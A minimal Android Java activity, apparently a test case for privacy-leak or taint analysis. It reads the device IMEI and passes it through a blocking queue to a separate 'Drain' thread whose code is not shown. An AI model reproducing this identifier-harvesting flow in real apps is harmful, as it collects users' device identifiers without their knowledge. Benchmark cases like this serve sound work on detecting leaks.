package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;

public class Main extends Activity {
    private final BlockingQueue<String> queue = new LinkedBlockingQueue<>();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Drain(queue).start();
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        queue.offer(phone.getImei());
    }
}
